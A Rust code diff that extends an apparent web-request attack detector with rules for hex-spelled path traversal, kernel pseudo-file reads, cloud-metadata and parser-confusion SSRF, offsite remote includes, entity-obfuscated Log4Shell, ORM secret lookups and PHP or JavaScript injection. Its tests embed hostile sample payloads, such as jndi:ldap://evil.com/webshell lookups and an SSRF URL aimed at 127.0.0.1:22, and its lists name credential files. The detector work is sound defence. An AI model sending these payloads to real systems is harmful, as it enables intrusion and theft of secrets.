@@ -21,6 +21,8 @@ pub struct Ctx<'a> {
     /// The point name (`query.url`, `header.User-Agent`, ...).
     pub name: &'a str,
     pub in_url: bool,
+    /// The request's Host (port included as sent; empty when absent).
+    pub host: &'a str,
 }
 
 /// One finding of a class.
@@ -75,6 +77,10 @@ const SENSITIVE_FILES: &[&str] = &[
     "php.ini",
     "my.cnf",
     "httpd.conf",
+    ".history",
+    ".docker/",
+    ".kube/",
+    ".gnupg/",
 ];
 
 /// One automaton over [`SENSITIVE_FILES`]: one pass per value, not one per name.
@@ -145,6 +151,11 @@ pub fn files(s: &str, cx: &Ctx<'_>) -> Option<ClassFound> {
     if ups > 0 && sensitive {
         return Some(("ptrav", "ptrav.sensitive_file", 0.95));
     }
+    // `0x2e.%000x2f`, `0x5c0x2e./`: dots and slashes spelled as hex so a
+    // filter looking for `../` misses them; no path spells them so.
+    if memchr::memmem::find(p.as_bytes(), b"0x2e").is_some() && hex_traversal(&p) {
+        return Some(("ptrav", "ptrav.hex_spelled", 0.85));
+    }
     if p.contains(':') {
         for w in WRAPPERS {
             if let Some(at) = p.find(w) {
@@ -199,6 +210,31 @@ pub fn files(s: &str, cx: &Ctx<'_>) -> Option<ClassFound> {
     if ups >= 1 && (p.contains("\0") || p.contains("%00")) {
         return Some(("ptrav", "ptrav.null_byte", 0.8));
     }
+    // A parameter that is a relative path climbing out with Windows or
+    // Tomcat separators (`..\\boot.ini`, `..;/`): no link or prose starts so.
+    if cx.kind == Kind::Value
+        && (s.starts_with("..\\") || s.starts_with("..;"))
+        && s.len() < 256
+        && !s.contains(char::is_whitespace)
+    {
+        return Some(("ptrav", "ptrav.relative", 0.7));
+    }
+    // The kernel's pseudo files anywhere in the path (`/x/proc/interrupts`).
+    let path_like = cx.kind == Kind::Path
+        || matches!(cx.kind, Kind::Value | Kind::Key)
+            && p.len() < 256
+            && !p.contains(char::is_whitespace);
+    let kernel_dir = || {
+        memchr::memchr_iter(b'/', p.as_bytes()).take(64).any(|at| {
+            let r = p.as_bytes().get(at + 1..).unwrap_or(&[]);
+            r.starts_with(b"proc/") || r.starts_with(b"sys/")
+        })
+    };
+    if path_like && kernel_dir() {
+        if let Some(f) = pseudo_file(&p) {
+            return Some(f);
+        }
+    }
     if cx.kind == Kind::Path {
         // A hidden file or directory (`/.env`, `/.claude/settings.json`):
         // never content a site serves, except `/.well-known/`.
@@ -227,10 +263,13 @@ pub fn files(s: &str, cx: &Ctx<'_>) -> Option<ClassFound> {
     if sensitive
         && matches!(cx.kind, Kind::Header | Kind::Value | Kind::Cookie)
         && (p.starts_with("/proc/")
+            || p.starts_with("/etc/") && cx.kind == Kind::Header && !p.contains(' ')
             || p.starts_with("/sys/")
             || p.starts_with("/root/")
             || p.starts_with(".ssh/")
-            || p.contains("/.ssh/"))
+            || ["/.ssh/", "/.docker/", "/.kube/", "/.aws/", "/.gnupg/"]
+                .iter()
+                .any(|d| p.contains(d)))
     {
         return Some(("lfi", "lfi.absolute_file", 0.75));
     }
@@ -240,6 +279,70 @@ pub fn files(s: &str, cx: &Ctx<'_>) -> Option<ClassFound> {
         && !p.contains(' ')
     {
         return Some(("lfi", "lfi.absolute_file", 0.7));
+    }
+    None
+}
+
+/// Whether hex spellings of `.`, `/` and `\\` (with `%00` dropped) make a
+/// `../` climb that the plain text does not have.
+fn hex_traversal(p: &str) -> bool {
+    let d = p
+        .replace("%00", "")
+        .replace("0x2e", ".")
+        .replace("0x2f", "/")
+        .replace("0x5c", "/");
+    d.matches("../").count() > p.matches("../").count()
+}
+
+/// `/proc/<entry>` and `/sys/<tree>` as path segments: the kernel's own
+/// files (`/proc/interrupts`, `/sys/class/net`), no web content.
+fn pseudo_file(p: &str) -> Option<ClassFound> {
+    const PROC: &[&str] = &[
+        "self",
+        "version",
+        "cpuinfo",
+        "meminfo",
+        "interrupts",
+        "mounts",
+        "net",
+        "cmdline",
+        "environ",
+        "sched_debug",
+        "kallsyms",
+        "modules",
+        "partitions",
+        "stat",
+        "uptime",
+        "loadavg",
+        "devices",
+        "filesystems",
+        "iomem",
+        "ioports",
+        "kcore",
+        "swaps",
+        "sys",
+    ];
+    const SYS: &[&str] = &[
+        "class",
+        "kernel",
+        "devices",
+        "block",
+        "bus",
+        "firmware",
+        "fs",
+        "module",
+        "power",
+        "hypervisor",
+    ];
+    for (root, names) in [("/proc/", PROC), ("/sys/", SYS)] {
+        for (at, _) in p.match_indices(root).take(4) {
+            let rest = p.get(at + root.len()..).unwrap_or("");
+            let seg = rest.split(['/', '?', '#']).next().unwrap_or("");
+            let pid = !seg.is_empty() && seg.bytes().all(|c| c.is_ascii_digit());
+            if names.contains(&seg) || pid && rest.len() > seg.len() {
+                return Some(("lfi", "lfi.pseudo_file", 0.75));
+            }
+        }
     }
     None
 }
@@ -264,6 +367,20 @@ fn url_host(after_scheme: &str) -> &str {
     if let Some(h) = host.strip_prefix('[') {
         return h.split(']').next().unwrap_or(h);
     }
+    host.rsplit_once(':')
+        .filter(|(_, port)| port.bytes().all(|c| c.is_ascii_digit()))
+        .map_or(host, |(h, _)| h)
+}
+
+/// The host a parser finds when only `/` ends the authority (`#`, `?`,
+/// blanks and earlier `@`s all fall into the user info).
+fn confused_host(after_scheme: &str) -> &str {
+    let end = after_scheme.find('/').unwrap_or(after_scheme.len());
+    let auth = after_scheme.get(..end).unwrap_or("");
+    let Some((_, host)) = auth.rsplit_once('@') else {
+        return "";
+    };
+    let host = host.trim();
     host.rsplit_once(':')
         .filter(|(_, port)| port.bytes().all(|c| c.is_ascii_digit()))
         .map_or(host, |(h, _)| h)
@@ -307,7 +424,18 @@ fn internal_host(host: &str) -> Option<&'static str> {
     let folded = fold_host(host);
     let h = folded.as_deref().unwrap_or(host).trim_end_matches('.');
     let h = h.to_ascii_lowercase();
-    if h == "metadata.google.internal" || h == "metadata" || h == "instance-data" {
+    // Google, AWS's name, Equinix Metal (Packet), Oracle, Alibaba, DigitalOcean, Hetzner.
+    if matches!(
+        h.as_str(),
+        "metadata.google.internal"
+            | "metadata"
+            | "instance-data"
+            | "instance-data.ec2.internal"
+            | "metadata.packet.net"
+            | "metadata.platformequinix.com"
+            | "metadata.oraclecloud.com"
+            | "metadata.tencentyun.com"
+    ) {
         return Some("metadata");
     }
     if LOOPBACK_NAMES.contains(&h.as_str())
@@ -461,6 +589,13 @@ pub fn urls(s: &str, cx: &Ctx<'_>) -> Option<ClassFound> {
                     Some(("ssrf", "ssrf.internal_host", 0.8))
                 }
                 Some(_) if scheme != "file" => Some(("ssrf", "ssrf.internal_host", 0.6)),
+                // `http://a.com:80 &@a.com:80# @127.0.0.1:22/`: parsers that
+                // end the authority at `/` only see the host after the last `@`.
+                _ if rest.contains('@')
+                    && internal_host(confused_host(rest)).is_some_and(|k| k != "metadata") =>
+                {
+                    Some(("ssrf", "ssrf.parser_confusion", 0.8))
+                }
                 _ if whole_value && scheme != "file" => {
                     rfi(s.get(scheme_start..).unwrap_or(""), host, cx)
                 }
@@ -613,13 +748,96 @@ fn rfi(url: &str, host: &str, cx: &Ctx<'_>) -> Option<ClassFound> {
     if script && INCLUDE_PARAMS.contains(&param.as_str()) {
         return Some(("rfi", "rfi.include_param", 0.7));
     }
+    // The rest needs the request's own host to compare with.
+    let own = cx.host.trim().to_ascii_lowercase();
+    let own = own
+        .rsplit_once(':')
+        .filter(|(_, p)| p.bytes().all(|c| c.is_ascii_digit()))
+        .map_or(own.as_str(), |(h, _)| h);
+    let h = host.to_ascii_lowercase();
+    if own.is_empty() || h.is_empty() || h == own || same_site(&h, own) {
+        return None;
+    }
+    // `https://example.com.evil.com/` sent to example.com: the own name
+    // as the first labels of a foreign host, made to pass a prefix check.
+    if h.strip_prefix(own).is_some_and(|r| r.starts_with('.')) {
+        return Some(("rfi", "rfi.deceptive_host", 0.75));
+    }
+    // A script or text file on another site in a parameter not named for
+    // URLs (`x=https://evil.example/shell.txt`): fields that carry links by
+    // design (homepage, avatar, callback, share, ...) stay out.
+    if script && !url_param(&param) {
+        return Some(("rfi", "rfi.offsite_script", 0.7));
+    }
     None
+}
+
+/// Parameter names that carry a URL by design (links, images, hooks, redirects).
+fn url_param(param: &str) -> bool {
+    let base = param
+        .trim_end_matches(']')
+        .rsplit('[')
+        .next()
+        .unwrap_or(param);
+    matches!(
+        base,
+        "u" | "to" | "ref" | "next" | "share" | "source" | "home"
+    ) || [
+        "url",
+        "uri",
+        "link",
+        "href",
+        "src",
+        "site",
+        "homepage",
+        "avatar",
+        "image",
+        "img",
+        "icon",
+        "logo",
+        "photo",
+        "picture",
+        "thumb",
+        "feed",
+        "rss",
+        "callback",
+        "hook",
+        "redirect",
+        "return",
+        "referer",
+        "referrer",
+        "origin",
+        "target",
+        "dest",
+        "continue",
+        "endpoint",
+        "server",
+        "host",
+        "domain",
+        "profile",
+        "web",
+        "canonical",
+        "permalink",
+    ]
+    .iter()
+    .any(|k| base.contains(k))
 }
 
 /// Resolves Log4j lookups innermost first (`${lower:j}` = `j`, `${::-n}` =
 /// `n`, `${env:X:-d}` = `d`) and reports a `jndi:` lookup in the result.
 pub fn log4shell(s: &str) -> Option<ClassFound> {
     if !s.contains("${") {
+        // `$&lbracejndi:`, `&#x24;&#000123;jndi:`: entities a lenient
+        // decoder resolves (no `;`, any number of leading zeros).
+        if s.len() <= 4096
+            && s.contains('&')
+            && memchr::memmem::find(s.as_bytes(), b"jndi").is_some()
+        {
+            let d = loose_entities(s);
+            if d.contains("${") {
+                return log4shell(&d);
+            }
+        }
         return None;
     }
     let mut cur = s.get(..4096.min(s.len())).unwrap_or(s).to_string();
@@ -884,6 +1102,86 @@ const MONGO_OPS: &[&str] = &[
 
 /// NoSQL operator injection: `$ne`-style operators in keys (`user[$ne]=`,
 /// `{"user":{"$ne":1}}`) and server-side JavaScript.
+/// Django/ORM field lookups (`field__startswith`, `__isnull`, `__has_key`).
+const ORM_LOOKUPS: &[&str] = &[
+    "exact",
+    "iexact",
+    "contains",
+    "icontains",
+    "in",
+    "gt",
+    "gte",
+    "lt",
+    "lte",
+    "startswith",
+    "istartswith",
+    "endswith",
+    "iendswith",
+    "range",
+    "isnull",
+    "regex",
+    "iregex",
+    "has_key",
+    "has_keys",
+    "has_any_keys",
+    "contained_by",
+    "contains_by",
+    "overlap",
+    "search",
+];
+/// Fields an ORM leak walks to: secrets, or the flags that make an admin.
+const ORM_SECRETS: &[&str] = &[
+    "password",
+    "passwd",
+    "pwd",
+    "secret",
+    "token",
+    "api_key",
+    "apikey",
+    "hash",
+    "salt",
+    "otp",
+    "totp_secret",
+    "reset_token",
+    "is_staff",
+    "is_superuser",
+    "is_admin",
+    "private_key",
+];
+
+/// A key that filters through an ORM lookup (`a__b__startswith`) as an
+/// oracle on data the client should not see: a lookup on a secret field
+/// (`password__isnull`, `user__password__startswith`) or across two
+/// relations or more (`created_by__user__username__startswith`). One field
+/// and a lookup (`name__icontains`) is what filter APIs take by design.
+fn orm_lookup(lower: &str) -> Option<ClassFound> {
+    let key = lower
+        .rsplit(['.', '['])
+        .next()
+        .unwrap_or(lower)
+        .trim_end_matches([']', '"']);
+    let (fields, lookup) = key.rsplit_once("__")?;
+    if !ORM_LOOKUPS.contains(&lookup) || fields.is_empty() {
+        return None;
+    }
+    let mut n = 0;
+    let mut secret = false;
+    for f in fields.split("__") {
+        if f.is_empty() || !f.bytes().all(|c| c.is_ascii_alphanumeric() || c == b'_') {
+            return None;
+        }
+        n += 1;
+        secret |= ORM_SECRETS.contains(&f);
+    }
+    if secret {
+        Some(("nosql", "nosql.orm_secret_lookup", 0.75))
+    } else if n >= 3 {
+        Some(("nosql", "nosql.orm_traversal", 0.6))
+    } else {
+        None
+    }
+}
+
 pub fn nosql(s: &str, cx: &Ctx<'_>) -> Option<ClassFound> {
     if !s.contains('$') && !s.contains("this.") && !s.contains("__") {
         return None;
@@ -909,12 +1207,10 @@ pub fn nosql(s: &str, cx: &Ctx<'_>) -> Option<ClassFound> {
                 }
             }
         }
-        // Django-style lookups in JSON keys: `username__startswith`.
-        if ["__startswith", "__regex", "__contains", "__gt", "__in"]
-            .iter()
-            .any(|k| lower.ends_with(k))
-        {
-            return Some(("nosql", "nosql.orm_lookup", 0.6));
+        if lower.contains("__") {
+            if let Some(f) = orm_lookup(&lower) {
+                return Some(f);
+            }
         }
     }
     if lower.contains("$where") || (lower.contains("this.") && lower.contains("sleep(")) {
@@ -1370,6 +1666,8 @@ const PHP_ONLY: &[&str] = &[
     "fsockopen",
     "curl_exec",
     "preg_replace",
+    "gzdecode",
+    "zlib_decode",
 ];
 
 /// Skips blanks and PHP comments (`/* */`, `//` and `#` to the line end).
@@ -1715,8 +2013,11 @@ fn ini_setting(lower: &str) -> Option<ClassFound> {
     if value.is_empty() || value.contains(['=', '&', ' ']) || name.contains(' ') {
         return None;
     }
-    // Single-word directives (`engine`, `precision`) are ordinary settings words.
-    let known = PHP_INI.contains(&name) && name.contains(['_', '.'])
+    // Single-word directives (`engine`, `precision`) are ordinary settings
+    // words: only with a switch or number as php.ini writes it (`engine=On`).
+    let switch = matches!(value, "on" | "off" | "true" | "false" | "yes" | "no")
+        || value.bytes().all(|c| c.is_ascii_digit());
+    let known = PHP_INI.contains(&name) && (name.contains(['_', '.']) || switch)
         || name.split_once('.').is_some_and(|(sec, d)| {
             PHP_INI_SECTIONS.contains(&sec)
                 && !d.is_empty()
@@ -1746,6 +2047,7 @@ fn upload_name(lower: &str) -> Option<ClassFound> {
                 | "phar"
                 | "pht"
                 | "phps"
+                | "phpt"
                 | "pgif"
                 | "jsp"
                 | "jspx"
@@ -1761,6 +2063,36 @@ fn upload_name(lower: &str) -> Option<ClassFound> {
     }
     if matches!(f, ".htaccess" | ".user.ini" | "web.config" | ".htpasswd") {
         return Some(("php", "upload.config_file", 0.8));
+    }
+    // Files that configure the app or hold a user's credentials, under the
+    // name the server or a tool reads them by (`wp-config-php.bak` included).
+    if f.starts_with("wp-config")
+        || matches!(
+            f,
+            "config.yml"
+                | "config.yaml"
+                | "settings.py"
+                | "local_settings.py"
+                | "configuration.php"
+                | ".env"
+                | ".boto"
+                | ".bashrc"
+                | ".bash_profile"
+                | ".profile"
+                | ".zshrc"
+                | ".npmrc"
+                | ".pypirc"
+                | ".netrc"
+                | ".gitconfig"
+                | ".git-credentials"
+                | ".dockercfg"
+                | "id_rsa"
+                | "id_ed25519"
+                | "authorized_keys"
+                | "crontab"
+        )
+    {
+        return Some(("rce", "upload.restricted_file", 0.7));
     }
     let id = f.strip_prefix("sess_").unwrap_or("");
     if id.len() >= 16
@@ -1782,7 +2114,20 @@ pub fn php(s: &str, cx: &Ctx<'_>) -> Option<ClassFound> {
     {
         return Some(("php", "php.open_tag", 0.9));
     }
-    if cx.kind == Kind::Filename {
+    let lb = lower.as_bytes();
+    if memchr::memchr(b'<', lb).is_some() && memchr::memmem::find(lb, b"<?").is_some() {
+        if let Some(f) = php_short_tag(&lower) {
+            return Some(f);
+        }
+    }
+    if memchr::memchr2(b'}', b']', lb).is_some()
+        && (lower.contains("php}") || lower.contains("php]"))
+    {
+        if let Some(f) = php_block_tag(&lower) {
+            return Some(f);
+        }
+    }
+    if cx.kind == Kind::Filename || cx.kind == Kind::Header && filename_header(cx.name) {
         if let Some(f) = upload_name(&lower) {
             return Some(f);
         }
@@ -1844,6 +2189,19 @@ pub fn php(s: &str, cx: &Ctx<'_>) -> Option<ClassFound> {
             continue;
         }
         if !PHP_FUNCS.contains(&name) {
+            // A PHP-only name glued to other letters (`FOOcall_user_func()`):
+            // still that function to a filter that strips a prefix, and no word.
+            if name.len() > 8
+                && lower
+                    .get(at + 1..)
+                    .is_some_and(|a| a.trim_start().starts_with(')'))
+                && PHP_ONLY
+                    .iter()
+                    .any(|f| f.len() >= 8 && name.len() > f.len() && name.ends_with(f))
+                && best.is_none_or(|b| b.2 < 0.7)
+            {
+                best = Some(("php", "php.function_call", 0.7));
+            }
             continue;
         }
         let arg = lower.get(at + 1..).unwrap_or("").trim_start();
@@ -1874,6 +2232,65 @@ pub fn php(s: &str, cx: &Ctx<'_>) -> Option<ClassFound> {
         }
     }
     best.or_else(|| whole_call(&lower))
+}
+
+/// `<?` that opens PHP code rather than an XML declaration: `<?xml :echo 1;`
+/// (a short tag, then `xml` and code that no declaration has) or `<?` left
+/// open at the very end of the value (a probe).
+fn php_short_tag(lower: &str) -> Option<ClassFound> {
+    let t = lower.trim_end();
+    if t.len() > 2 && t.ends_with("<?") {
+        return Some(("php", "php.open_tag", 0.7));
+    }
+    for (at, _) in lower.match_indices("<?xml").take(4) {
+        let rest = lower.get(at + 5..).unwrap_or("");
+        let body = rest.trim_start();
+        // A declaration goes on with a blank and `version=`; a processing
+        // instruction with `-` (`<?xml-stylesheet`); code with anything else.
+        let next = body.bytes().next();
+        let glued = body.len() == rest.len();
+        if next.is_some_and(|c| {
+            !c.is_ascii_alphanumeric() && c != b'?' && !(glued && matches!(c, b'-' | b'_' | b'.'))
+        }) {
+            return Some(("php", "php.open_tag", 0.8));
+        }
+    }
+    None
+}
+
+/// Smarty's `{php}...{/php}` and the `[php]...[/php]` block tags around code:
+/// a Smarty tag alone is enough; a BBCode one (forums use it to show PHP)
+/// needs a statement inside (`;`, a call, a variable, `echo`).
+fn php_block_tag(lower: &str) -> Option<ClassFound> {
+    if lower.contains("{php}") || lower.contains("{/php}") {
+        return Some(("php", "php.block_tag", 0.75));
+    }
+    let bb = ["[php]", "[/php]", "[\\php]"]
+        .iter()
+        .any(|t| lower.contains(t));
+    let code =
+        lower.contains([';', '(', '$']) || lower.contains("echo ") || lower.contains("print ");
+    (bb && code).then_some(("php", "php.block_tag", 0.7))
+}
+
+/// A request header that names an uploaded file (`X-Filename`, `X.Filename`,
+/// `X_Filename`, `X-File-Name`): upload handlers store under that name.
+fn filename_header(name: &str) -> bool {
+    let h = name.get(7..).unwrap_or("");
+    name.get(..7)
+        .is_some_and(|p| p.eq_ignore_ascii_case("header."))
+        && h.len() <= 12
+        && {
+            let mut k = [0u8; 12];
+            let mut n = 0;
+            for c in h.bytes().filter(u8::is_ascii_alphanumeric) {
+                if let Some(slot) = k.get_mut(n) {
+                    *slot = c.to_ascii_lowercase();
+                    n += 1;
+                }
+            }
+            k.get(..n) == Some(b"xfilename".as_slice())
+        }
 }
 
 /// PHP extension prefixes: a `prefix_name(` call is PHP's standard library.
@@ -1940,6 +2357,20 @@ const PHP_BUILTINS: &[&str] = &[
     "popen",
     "proc_open",
     "assert",
+    "system",
+    "exec",
+    // PHP's type and file predicates (`is_prime(7)` stays a user's own name).
+    "is_array",
+    "is_callable",
+    "is_numeric",
+    "is_object",
+    "is_resource",
+    "is_scalar",
+    "is_readable",
+    "is_writable",
+    "is_writeable",
+    "is_executable",
+    "is_uploaded_file",
 ];
 
 /// A value that is one PHP call and nothing else: `name(...)`, `name(`,
@@ -1959,12 +2390,13 @@ fn whole_call(lower: &str) -> Option<ClassFound> {
     let j = php_blank(b, n);
     // A plain blank before `(` reads as prose (`fopen (the file)`) unless the
     // name is no word (`array_diff (`); a tab, newline or comment never does.
+    // Two blanks or more are no typing habit either (`exec  (blah)`).
     let gap = t.get(n..j).unwrap_or("");
-    if b.get(j) != Some(&b'(')
-        || gap.starts_with(' ') && !gap.contains(['/', '#']) && !name.contains('_')
-    {
+    if b.get(j) != Some(&b'(') || gap == " " && !name.contains('_') {
         return None;
     }
+    // `file` is a word: only with a code-like gap (`FILE\r\n()`).
+    let code_gap = !gap.is_empty() && gap != " " && !gap.bytes().all(|c| c == b' ');
     let rest = t.get(j + 1..).unwrap_or("");
     // Closed at the very end, or left open (a probe): one call, not a sentence.
     let shape = match rest.find(')') {
@@ -1977,6 +2409,7 @@ fn whole_call(lower: &str) -> Option<ClassFound> {
         None => !rest.contains(' ') || rest.len() < 16,
     };
     let known = PHP_BUILTINS.contains(&name)
+        || name == "file" && code_gap
         || PHP_PREFIXES
             .iter()
             .any(|p| name.len() > p.len() + 1 && name.starts_with(p));
@@ -2306,7 +2739,31 @@ fn js_code(lower: &str) -> Option<ClassFound> {
             return Some(("code", "code.node", 0.8));
         }
     }
+    // React Server Components' flight references walking to the Function
+    // constructor (`"$3:constructor:constructor"`, `"$7:Module:prototype"`).
+    if memchr::memchr(b'$', lower.as_bytes()).is_some()
+        && (lower.contains("constructor")
+            || lower.contains("prototype")
+            || lower.contains("__proto__"))
+    {
+        if let Some(f) = flight_reference(lower) {
+            return Some(f);
+        }
+    }
+    // A busy wait on the clock (`var a=new Date();do{...}while(b-a<20000)`):
+    // the time-delay probe of server-side JavaScript injection.
+    let two_dates = memchr::memmem::find(lower.as_bytes(), b"new date")
+        .is_some_and(|at| lower.get(at + 8..).is_some_and(|r| r.contains("new date")));
+    if two_dates && lower.contains("while(") {
+        return Some(("code", "code.js_delay", 0.75));
+    }
     let t = lower.trim();
+    // `while(new Date);`: a loop with a blank in its condition, as a statement.
+    if let Some(cond) = t.strip_prefix("while(").and_then(|r| r.strip_suffix(");")) {
+        if t.len() <= 64 && !cond.trim().is_empty() && !cond.contains([';', '(', ')']) {
+            return Some(("code", "code.js_loop", 0.6));
+        }
+    }
     if let Some(r) = t.strip_prefix("@{") {
         if r.trim_start().starts_with('[') && r.trim_end().ends_with('}') {
             return Some(("code", "code.perl", 0.75));
@@ -2348,6 +2805,99 @@ fn js_code(lower: &str) -> Option<ClassFound> {
     None
 }
 
+/// `&lbrace`, `&rbrace`, `&dollar`, `&lcub`, `&rcub` (`;` optional) and
+/// numeric references with any number of leading zeros, as their characters.
+fn loose_entities(s: &str) -> String {
+    let mut out = String::with_capacity(s.len());
+    let mut rest = s;
+    while let Some(at) = rest.find('&') {
+        out.push_str(rest.get(..at).unwrap_or(""));
+        let r = rest.get(at + 1..).unwrap_or("");
+        let lower = r.get(..8.min(r.len())).unwrap_or("").to_ascii_lowercase();
+        let named = [
+            ("lbrace", '{'),
+            ("rbrace", '}'),
+            ("lcub", '{'),
+            ("rcub", '}'),
+            ("dollar", '$'),
+        ]
+        .into_iter()
+        .find(|(n, _)| lower.starts_with(n));
+        if let Some((n, c)) = named {
+            out.push(c);
+            let after = r.get(n.len()..).unwrap_or("");
+            rest = after.strip_prefix(';').unwrap_or(after);
+            continue;
+        }
+        if let Some(num) = r.strip_prefix('#') {
+            let (hex, digits) = match num.strip_prefix(['x', 'X']) {
+                Some(h) => (true, h),
+                None => (false, num),
+            };
+            let n = digits
+                .bytes()
+                .take_while(|c| {
+                    if hex {
+                        c.is_ascii_hexdigit()
+                    } else {
+                        c.is_ascii_digit()
+                    }
+                })
+                .count();
+            let text = digits.get(..n).unwrap_or("").trim_start_matches('0');
+            let v = if text.len() > 6 {
+                None
+            } else if text.is_empty() {
+                Some(0)
+            } else {
+                u32::from_str_radix(text, if hex { 16 } else { 10 }).ok()
+            };
+            if let Some(c) = v.filter(|_| n > 0).and_then(char::from_u32) {
+                out.push(c);
+                let after = digits.get(n..).unwrap_or("");
+                rest = after.strip_prefix(';').unwrap_or(after);
+                continue;
+            }
+        }
+        out.push('&');
+        rest = r;
+    }
+    out.push_str(rest);
+    out
+}
+
+/// A flight reference (`$` + hex id, then `:`-separated property names)
+/// whose path goes through `constructor`, `prototype` or `__proto__`.
+fn flight_reference(lower: &str) -> Option<ClassFound> {
+    let b = lower.as_bytes();
+    for (at, _) in lower.match_indices('$').take(32) {
+        let mut i = at + 1;
+        if b.get(i) == Some(&b'@') {
+            i += 1;
+        }
+        let id = i;
+        while b.get(i).is_some_and(u8::is_ascii_hexdigit) && i - id < 8 {
+            i += 1;
+        }
+        if i == id || b.get(i) != Some(&b':') {
+            continue;
+        }
+        let path = lower.get(i + 1..).unwrap_or("");
+        let end = path
+            .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_' || c == ':'))
+            .unwrap_or(path.len());
+        if path
+            .get(..end)
+            .unwrap_or("")
+            .split(':')
+            .any(|p| matches!(p, "constructor" | "prototype" | "__proto__"))
+        {
+            return Some(("code", "code.react_flight", 0.85));
+        }
+    }
+    None
+}
+
 /// Shellshock in a header value.
 pub fn shellshock(s: &str) -> Option<ClassFound> {
     let t = s.trim_start();
@@ -2368,6 +2918,160 @@ mod tests {
             kind,
             name,
             in_url: true,
+            host: "shop.example.com",
+        }
+    }
+
+    #[test]
+    fn traversal_spellings_and_pseudo_files() {
+        let v = cx(Kind::Value, "query.foo");
+        let h = cx(Kind::Header, "header.FoobarHeader");
+        let path = cx(Kind::Path, "path");
+        for (a, c) in [
+            ("0x2e.%000x2f0x2e.%00/WINDOWS/win.ini", &v),
+            ("0x5c0x2e.%00/", &h),
+            ("0x5c0x2e./", &h),
+            ("..\\pineapple", &v),
+            ("..;.\\.;\\.", &v),
+            ("/path/to/.docker/secrets", &v),
+            ("../.history", &v),
+            ("/get/sys/class", &path),
+            ("/get/proc/interrupts", &path),
+            ("/x/proc/1234/environ", &path),
+            ("files/proc/self/cmdline", &v),
+            ("/sys/class", &cx(Kind::Key, "query_key./sys/class")),
+            ("/etc/shadow", &cx(Kind::Header, "header.User-Agent")),
+        ] {
+            assert!(files(a, c).is_some(), "missed {a:?}");
+        }
+        for (b, c) in [
+            ("0x2e0x2f", &v),
+            ("color=0x2e2e2e", &v),
+            ("the ../ notation", &v),
+            ("..and then", &v),
+            ("cat /proc/cpuinfo shows 4 cores", &v),
+            ("/api/process/42", &path),
+            ("/docs/sys/admin-guide", &path),
+            ("/blog/2024/the-proc/", &path),
+            ("/.dockerignore", &v),
+            (
+                "see /etc/hosts for names",
+                &cx(Kind::Header, "header.X-Note"),
+            ),
+            ("my .history notes", &v),
+        ] {
+            assert_eq!(files(b, c), None, "flagged {b:?}");
+        }
+    }
+
+    #[test]
+    fn flight_references_loops_and_metadata_hosts() {
+        for a in [
+            "{'_prefix':'x', '_formData':{'get':'$3:constructor:constructor'}}",
+            "{\"reason\":{\"0\":\"$7:Module:prototype\"}}",
+            "$@1:__proto__:then",
+            "while(new Date);",
+            "test\"+(function(){if(typeof gs78r==='undefined'){var a=new Date();do{var b=new Date();}while(b-a<20000);gs78r=1;}}())+\"",
+        ] {
+            assert!(code(a).is_some(), "missed {a:?}");
+        }
+        for a in [
+            "$&lbracejndi:ldap://evil.com/webshell}",
+            "&#x24;&#00000000000000000000000000000000000000000000000123;jndi:ldap://evil.om/w}",
+        ] {
+            assert!(log4shell(a).is_some(), "missed {a:?}");
+        }
+        assert_eq!(
+            log4shell("Tom &amp; Jerry talk about jndi: lookups &#123;"),
+            None
+        );
+        for b in [
+            "Price $3: constructor kits on sale",
+            "the constructor costs $5:00",
+            "while (new Date) is a busy loop, avoid it",
+            "while(x) { y(); }",
+        ] {
+            assert_eq!(code(b), None, "flagged {b:?}");
+        }
+        let v = cx(Kind::Value, "query.ssrf");
+        assert_eq!(
+            urls("https://metadata.packet.net/userdata", &v).map(|f| f.1),
+            Some("ssrf.cloud_metadata")
+        );
+        assert_eq!(
+            urls(
+                "http://google.com:80 &@google.com:80# @127.88.23.245:22/",
+                &v
+            )
+            .map(|f| f.0),
+            Some("ssrf")
+        );
+        for b in [
+            "https://mastodon.social/@user@127.0.0.1",
+            "https://example.com/?mail=a@b.com",
+            "mailto:bob@example.com",
+        ] {
+            assert_eq!(urls(b, &v), None, "flagged {b:?}");
+        }
+    }
+
+    #[test]
+    fn orm_lookups_in_keys() {
+        let k = |n: &str| cx(Kind::Key, n).kind;
+        assert_eq!(k("x"), Kind::Key);
+        for a in [
+            "created_by__departments__employees__user__username__startswith",
+            "password__isnull",
+            "user__password__startswith",
+            "body.json_key.user__profile__nickname__istartswith",
+            "owner__is_staff__exact",
+        ] {
+            assert!(
+                nosql(a, &cx(Kind::Key, a)).is_some_and(|f| f.0 == "nosql"),
+                "missed {a:?}"
+            );
+        }
+        for b in [
+            "username__startswith",
+            "created_at__gte",
+            "author__name__icontains",
+            "id__in",
+            "__init__",
+            "my__notes",
+            "a__b__c__d",
+        ] {
+            assert_eq!(nosql(b, &cx(Kind::Key, b)), None, "flagged {b:?}");
+        }
+    }
+
+    #[test]
+    fn offsite_remote_includes() {
+        // The request's Host in cx() is shop.example.com.
+        let x = cx(Kind::Value, "query.x");
+        for a in [
+            "https://shop.example.com.evil.net/",
+            "http://evil.example/shell.txt",
+            "http://evil.example/r57.php",
+            "ftp://files.evil.example/x.inc",
+        ] {
+            assert_eq!(urls(a, &x).map(|f| f.0), Some("rfi"), "missed {a:?}");
+        }
+        for (name, b) in [
+            ("query.x", "https://api.example.com/v1/readme.txt"),
+            ("query.x", "https://evil.example/"),
+            ("query.u", "https://news.example.net/story.php"),
+            ("body.form.website", "http://www.old-site.example/index.php"),
+            ("body.form.avatar_url", "https://img.example.net/show.php"),
+            ("body.form.callback", "https://partner.example/notify.php"),
+            ("body.json.feed", "https://blog.example.org/rss.php"),
+            ("query.x", "https://shop.example.com/help.txt"),
+            ("query.x", "https://example.com.au/"),
+        ] {
+            assert_eq!(
+                urls(b, &cx(Kind::Value, name)),
+                None,
+                "flagged {name} {b:?}"
+            );
         }
     }
 
@@ -2520,6 +3224,11 @@ mod tests {
             ".user.ini",
             "sess_d8ew88tqmabdcokhumchy8htqm",
             "/tmp/sess_attackervector1234567890",
+            ".boto",
+            "config.yml ",
+            "wp-config-php.bak",
+            "wp-config_php.txt",
+            "authorized_keys",
         ] {
             assert!(php(a, &f).is_some(), "missed {a:?}");
         }
@@ -2529,6 +3238,10 @@ mod tests {
             "phpunit-notes.txt",
             "sess_notes.txt",
             "my..notes.txt",
+            "abc.botox.jpg",
+            "amtrra.jpg",
+            "config-notes.yml",
+            "my.env.example.txt",
         ] {
             assert_eq!(php(b, &f), None, "flagged {b:?}");
             assert_eq!(files(b, &f), None, "flagged {b:?}");
